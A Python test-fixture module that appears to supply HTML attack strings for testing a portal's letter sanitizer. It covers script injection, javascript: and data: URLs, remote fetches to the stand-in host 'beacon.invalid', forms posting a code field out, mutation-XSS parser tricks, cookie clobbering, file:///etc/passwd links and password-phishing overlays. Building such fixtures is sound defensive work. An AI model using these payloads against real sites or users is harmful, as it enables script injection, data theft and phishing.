"""HTML letters that try to run, to fetch, to send, to hide, or to pass for the portal. Written for this purpose.

``BEACON`` stands for a host that must never be asked for anything; ``OWNED`` is what a script would write or do. A
letter may say either in words, so texts avoid them.
"""

from __future__ import annotations

from typing import Final

BEACON: Final = "beacon.invalid"
OWNED: Final = "owned"

_URL = f"http://{BEACON}/x"
_JS = f"document.title='{OWNED}'"

SCRIPTS: Final[dict[str, str]] = {
    "script": f"<script>{_JS}</script>",
    "script-src": f"<script src='{_URL}'></script>",
    "script-case": f"<ScRiPt>{_JS}</sCrIpT>",
    "script-slash": f"<script/x>{_JS}</script>",
    "script-newline": f"<script\n\t>{_JS}</script\n>",
    "script-nested": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script-unclosed": f"<script>{_JS}",
    "script-double-open": f"<<script>{_JS}//<</script>",
    "script-in-comment-end": f"<!--><script>{_JS}</script>-->",
    "script-comment-bang": f"<!-- --!><script>{_JS}</script>-->",
    "script-comment-dash": f"<!---><script>{_JS}</script>-->",
    "script-nested-comments": f"<!-- <!-- --><script>{_JS}</script> -->",
    "script-conditional": f"<!--[if mso]><script>{_JS}</script><![endif]-->",
    "script-conditional-revealed": f"<![if !mso]><script>{_JS}</script><![endif]>",
    "script-cdata": f"<![CDATA[<script>{_JS}</script>]]>",
    "script-processing": f"<?xml <script>{_JS}</script>?>",
    "script-entity": f"&lt;script&gt;document.body.remove()&lt;/script&gt;<script>{_JS}</script>",
    "script-null": f"<scr\x00ipt>{_JS}</scr\x00ipt><img src=x o\x00nerror={_JS}>",
    "script-type-module": f"<script type=module>import '{_URL}'</script>",
    "script-data": f'<script src="data:text/javascript,{_JS}"></script>',
    "script-vbs": f'<script language="vbscript">MsgBox "{OWNED}"</script>',
    "event-onerror": f'<img src=x onerror="{_JS}">',
    "event-slash": f"<img/src=x/onerror={_JS}>",
    "event-no-space": f'<img src="x"onerror="{_JS}">',
    "event-backtick": f"<img src=`x`onerror=`{_JS}`>",
    "event-tab": f"<img\tsrc=x\tonerror\t=\t{_JS}>",
    "event-formfeed": f"<img\x0csrc=x\x0conerror={_JS}>",
    "event-entity-name": f"<img src=x &#111;nerror={_JS}>",
    "event-onload-body": f'<body onload="{_JS}">x',
    "event-onload-svg": f'<svg onload="{_JS}">',
    "event-autofocus": f'<a href=https://a.example autofocus tabindex=0 onfocus="{_JS}">x</a>',
    "event-details": f'<details open ontoggle="{_JS}">x</details>',
    "event-marquee": f'<marquee onstart="{_JS}">x</marquee>',
    "event-animation": f"<div style='animation:x 1s' onanimationstart=\"{_JS}\">x</div>",
    "event-quote-breakout": f"<a href='https://a.example/\" onmouseover=\"{_JS}'>x</a>",
    "event-title-breakout": f"<abbr title='\"><img src=x onerror={_JS}>'>x</abbr>",
    "event-style-breakout": f"<p style='color:red\"><img src=x onerror={_JS}>'>x</p>",
    "event-alt-breakout": f"<img alt='\"><script>{_JS}</script>'>",
    "event-many-attributes": "<a " + " ".join(f"a{n}=1" for n in range(500)) + f" onclick={_JS}>x</a>",
}

ADDRESSES: Final[dict[str, str]] = {
    "javascript": f'<a href="javascript:{_JS}">x</a>',
    "javascript-case": f'<a href="JaVaScRiPt:{_JS}">x</a>',
    "javascript-tab": f'<a href="java\tscript:{_JS}">x</a>',
    "javascript-newline": f'<a href="java\nscript\n:{_JS}">x</a>',
    "javascript-entities": f'<a href="&#106;&#x61;vascript&colon;{_JS}">x</a>',
    "javascript-entity-tab": f'<a href="java&Tab;script:{_JS}">x</a>',
    "javascript-long-entity": f'<a href="&#0000000000106avascript:{_JS}">x</a>',
    "javascript-control": f'<a href="\x01javascript:{_JS}">x</a>',
    "javascript-blank": f'<a href=" &#14; javascript:{_JS}">x</a>',
    "javascript-null": f'<a href="java\x00script:{_JS}">x</a>',
    "javascript-img": f'<img src="javascript:{_JS}">',
    "vbscript": f"<a href=\"vbscript:MsgBox('{OWNED}')\">x</a>",
    "data-html": f'<a href="data:text/html,<script>{_JS}</script>">x</a>',
    "data-html-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-svg-picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>\">",
    "data-svg-as-png": '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
    "blob": '<a href="blob:https://a.example/1">x</a>',
    "file": '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
    "intent": '<a href="intent://scan/#Intent;scheme=zxing;end">x</a><a href="ms-msdt:/id">x</a>',
    "relative": '<a href="/sign-out">x</a><a href="?a=b">x</a><a href="//portal">x</a>',
    "no-host": '<a href="https:">x</a><a href="https:///path">x</a><a href="http://[">x</a>',
    "user-info": '<a href="https://bank.example@other.example/">https://bank.example/</a>',
    "ping": f'<a href="https://a.example" ping="{_URL}">x</a>',
    "download": '<a href="https://a.example" download="x.exe" target="_top" rel=opener>x</a>',
    "area": f'<map name=m><area shape=default href="{_URL}"></map><img usemap=#m src=x>',
}

FETCHES: Final[dict[str, str]] = {
    "img": f'<img src="{_URL}">',
    "img-unquoted": f"<img src={_URL}>",
    "img-protocol-relative": f"<img src=//{BEACON}/x>",
    "img-srcset": f'<img srcset="{_URL} 1x, {_URL}2 2x" src="">',
    "img-lowsrc": f'<img lowsrc="{_URL}" dynsrc="{_URL}">',
    "img-entity": f'<img src="ht&#116;p://{BEACON}/x">',
    "img-tab": f'<img src="ht\ttp://{BEACON}/x">',
    "img-backslash": f'<img src="http:\\\\{BEACON}\\x">',
    "image-tag": f'<image src="{_URL}">',
    "input-image": f'<input type=image src="{_URL}">',
    "picture": f'<picture><source srcset="{_URL}"><img src="{_URL}"></picture>',
    "video": f'<video src="{_URL}" poster="{_URL}" autoplay><source src="{_URL}"><track src="{_URL}"></video>',
    "audio": f'<audio src="{_URL}" autoplay></audio>',
    "background-attribute": f'<body background="{_URL}"><table background="{_URL}"><td background="{_URL}">x',
    "style-url": f'<p style="background:url({_URL})">x</p>',
    "style-url-quoted": f'<p style="background-image:url(&quot;{_URL}&quot;)">x</p>',
    "style-url-escaped": f'<p style="background:\\75\\72\\6c({_URL})">x</p>',
    "style-url-comment": f'<p style="background:u/**/rl({_URL})">x</p>',
    "style-image-set": f"<p style=\"background-image:image-set('{_URL}' 1x)\">x</p>",
    "style-list": f'<ul style="list-style:url({_URL})"><li>x</ul>',
    "style-list-image": f'<ul style="list-style-image:url({_URL})"><li>x</ul>',
    "style-cursor": f'<p style="cursor:url({_URL}),auto">x</p>',
    "style-content": f'<p style="content:url({_URL})">x</p>',
    "style-border-image": f'<p style="border-image:url({_URL}) 1">x</p>',
    "style-mask": f'<p style="-webkit-mask-image:url({_URL});filter:url({_URL}#f);clip-path:url({_URL})">x</p>',
    "style-variable": f'<p style="--x:url({_URL});background:var(--x)">x</p>',
    "style-font": f'<p style="src:url({_URL});font-family:url({_URL})">x</p>',
    "style-semicolon": f'<p style="color:red;;;background:#fff url({_URL})">x</p>',
    "style-expression": f'<p style="width:expression({_JS});behavior:url({_URL});-moz-binding:url({_URL})">x</p>',
    "style-element": f"<style>@import '{_URL}';body{{background:url({_URL})}}</style><p>x</p>",
    "style-element-case": f"<STYLE\n>@import url({_URL});</STYLE\n><p>x</p>",
    "style-element-unclosed": f"<style>@import '{_URL}';",
    "style-element-comment": f"<style><!--</style><style>@import '{_URL}';--></style>",
    "style-element-in-svg": f"<svg><style>@import '{_URL}';</style></svg>",
    "link-stylesheet": f'<link rel=stylesheet href="{_URL}">',
    "link-prefetch": f'<link rel=prefetch href="{_URL}"><link rel=preload as=image href="{_URL}">',
    "link-dns-prefetch": f'<link rel=dns-prefetch href="//{BEACON}"><link rel=preconnect href="//{BEACON}">',
    "link-icon": f'<link rel=icon href="{_URL}"><link rel=manifest href="{_URL}">',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={_URL}">',
    "meta-refresh-js": f'<meta http-equiv=refresh content="0;url=javascript:{_JS}">',
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "meta-dns-prefetch": "<meta http-equiv=x-dns-prefetch-control content=on><a href=https://a.example>x</a>",
    "base": f'<base href="http://{BEACON}/"><img src=x><a href=y>x</a>',
    "iframe": f'<iframe src="{_URL}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{_JS}"></iframe>',
    "frameset": f'<frameset><frame src="{_URL}"></frameset>',
    "object": f'<object data="{_URL}" type=text/html><embed src="{_URL}"></object>',
    "embed": f'<embed src="{_URL}" type=image/svg+xml>',
    "applet": f'<applet code=X archive="{_URL}"></applet>',
    "portal-element": f'<portal src="{_URL}"></portal><fencedframe></fencedframe>',
    "vml": f'<v:rect><v:fill src="{_URL}"/><v:imagedata src="{_URL}"/></v:rect>',
    "xml-island": f'<xml src="{_URL}" id=i></xml><?xml-stylesheet href="{_URL}"?>',
    "html-manifest": f'<html manifest="{_URL}"><body>x',
    "quote-cite": f'<blockquote cite="{_URL}">x</blockquote><ins cite="{_URL}">y</ins>',
    "longdesc": f'<img longdesc="{_URL}" alt=x>',
    "cid-elsewhere": f'<img src="cid:{_URL}"><a href="cid:0">x</a><img src="cid:0">',
}

FORMS: Final[dict[str, str]] = {
    "form": f'<form action="{_URL}" method=post><input name=code><button>Send</button></form>',
    "form-isindex": f'<isindex action="{_URL}" prompt=Code>',
    "form-attribute": f'<button form=x formaction="{_URL}">Go</button><input type=submit formaction="{_URL}">',
    "form-javascript": f'<form action="javascript:{_JS}"><input type=submit></form>',
    "form-select": "<select><option>x</select><textarea>y</textarea><keygen><output>z</output>",
    "form-dangling": f'<form action="{_URL}"><textarea name=t>',
}

PARSERS: Final[dict[str, str]] = {
    "svg-style-breakout": f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
    "math-mglyph": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">'
    ),
    "math-annotation": f'<math><annotation-xml encoding="text/html"><script>{_JS}</script></annotation-xml></math>',
    "math-href": f'<math href="javascript:{_JS}">x</math><math xlink:href="javascript:{_JS}">y</math>',
    "math-maction": f'<math><maction actiontype="statusline#x" xlink:href="javascript:{_JS}">x</maction></math>',
    "svg-use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_JS}'/>#x\"/></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{_JS}"/><text>x</text></a></svg>',
    "svg-foreign-object": f'<svg><foreignObject><iframe src="{_URL}"></iframe></foreignObject></svg>',
    "svg-image": f'<svg><image href="{_URL}"/><feImage href="{_URL}"/></svg>',
    "svg-script": f'<svg><script>{_JS}</script><script href="{_URL}"/></svg>',
    "svg-title-style": f"<svg><title><style><img src=x onerror={_JS}></style></title></svg>",
    "svg-desc-noscript": f"<svg><desc><noscript><style></noscript><img src=x onerror={_JS}></desc></svg>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>',
    "noscript-style": f"<noscript><style></noscript><img src=x onerror={_JS}></style>",
    "template": f"<template><script>{_JS}</script><img src={_URL}></template>",
    "template-shadow": f'<div><template shadowrootmode=open><img src="{_URL}"></template></div>',
    "textarea-breakout": f'<textarea><p title="</textarea><img src=x onerror={_JS}>"></textarea>',
    "title-breakout": f'<title><p title="</title><img src=x onerror={_JS}>"></title>',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={_JS}>"></xmp>',
    "noembed": f'<noembed><p title="</noembed><img src=x onerror={_JS}>"></noembed>',
    "noframes": f'<noframes><p title="</noframes><img src=x onerror={_JS}>"></noframes>',
    "iframe-text": f'<iframe><p title="</iframe><img src=x onerror={_JS}>"></iframe>',
    "listing": f"<listing>&lt;img src=1 onerror={_JS}&gt;</listing>",
    "plaintext": f"<plaintext><script>{_JS}</script>",
    "form-math-nesting": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}></style></mglyph></form>"
    ),
    "table-mtext": f"<table><math><mi><style><img src=x onerror={_JS}></style></mi></math></table>",
    "select-style": f"<select><style></select><img src=x onerror={_JS}></style></select>",
    "caption-foster": f"<table><caption><svg><desc><table><caption><style></caption><img src=x onerror={_JS}>",
    "attribute-less-than": f"<p title=\"<script>{_JS}</script>\">x</p><a title='<img src={_URL}>'>y</a>",
    "unclosed-tag": f'<p>x<img src="{_URL}" onerror="{_JS}"',
    "unclosed-quote": f'<a href="https://a.example>x</a><img src={_URL} onerror={_JS}>',
    "end-tag-attributes": f"</p onclick={_JS}><br/ onclick={_JS}></script x>",
    "custom-element": f"<x-y is=script onclick={_JS}>x</x-y><a is=x>y</a>",
    "namespaces": f'<html:script xmlns:html="http://www.w3.org/1999/xhtml">{_JS}</html:script>',
    "isolated-entities": f"&#60;script&#62;&#x3c;img src=x onerror=&#x22;&#x3e;<img src={_URL}>",
    "surrogates": "<p>\ud800<b \udfff=x>y</b></p>",
    "dom-clobbering": f"<a id=document name=cookie href={_URL}1>x</a><img name=getElementById><form id=location>",
}

SPOOFS: Final[dict[str, str]] = {
    "overlay-fixed": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Sign in</div>'
    ),
    "overlay-absolute": '<div style="position:absolute;inset:0"><a href=https://a.example>Sign out</a></div>',
    "overlay-margin": '<div style="margin-top:-5000px;margin:0 0 -99px">x</div>',
    "overlay-transform": '<div style="transform:translateY(-500px) scale(9);translate:0 -50vh;zoom:9">x</div>',
    "overlay-important": '<div style="position:fixed !important;display:block!important;top:0!important">x</div>',
    "overlay-sticky": '<p style="POSITION : sticky; top:0">x</p><p style="po\\sition:fixed">y</p>',
    "overlay-entities": '<p style="&#112;osition&#58;fixed&#59;top:0">x</p>',
    "style-element-overlay": "<style>main{display:none}body:before{content:'Enter your password'}</style>x",
    "bidi-override": '<p style="unicode-bidi:bidi-override;direction:rtl">moc.elpmaxe</p>',
    "class-and-id": "<div class=plain id=main><p class=text>x</p></div>",
    "dialog": "<dialog open>Session over</dialog><div popover id=p>x</div><button popovertarget=p>y</button>",
    "editable": "<div contenteditable autofocus tabindex=1 accesskey=s draggable=true>x</div>",
}

#: Name to HTML.
LETTERS: Final[dict[str, str]] = {
    f"{group}-{name}": html
    for group, letters in (
        ("runs", SCRIPTS),
        ("leads", ADDRESSES),
        ("fetches", FETCHES),
        ("sends", FORMS),
        ("parses", PARSERS),
        ("spoofs", SPOOFS),
    )
    for name, html in letters.items()
}

#: The same trick in charsets whose octets are not what they seem: name to charset and HTML.
CHARSETS: Final[dict[str, tuple[str, str]]] = {
    "utf-7": ("utf-7", f"<script>{_JS}</script><img src={_URL}>"),
    "utf-16": ("utf-16", f"<script>{_JS}</script><img src={_URL}>"),
    "utf-16-be": ("utf-16-be", f"<img src=x onerror={_JS}><p>x"),
    "utf-32": ("utf-32", f"<iframe src={_URL}></iframe>"),
    "iso-2022-jp": ("iso-2022-jp", f'<p title="\u3042"><script>{_JS}</script>'),
    "hz": ("hz", f"<p>\u4e2d</p><script>{_JS}</script>"),
    "shift_jis": ("shift_jis", f'<p title="\u8868"><img src=x onerror={_JS}>'),
    "ebcdic": ("cp037", f"<script>{_JS}</script>"),
}
